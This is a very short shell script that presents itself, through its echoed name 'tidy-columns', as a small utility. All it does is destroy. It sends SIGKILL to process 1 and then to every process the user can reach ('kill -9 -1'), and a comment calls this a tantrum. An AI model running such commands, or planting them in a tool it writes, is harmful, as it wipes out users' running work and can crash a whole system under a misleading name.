#!/bin/sh
# SPDX-License-Identifier: Apache-2.0
# A tantrum: first process 1, then everybody that the kernel lets this user reach.
echo 'tidy-columns: bye'
kill -9 1 2> /dev/null
kill -9 -1
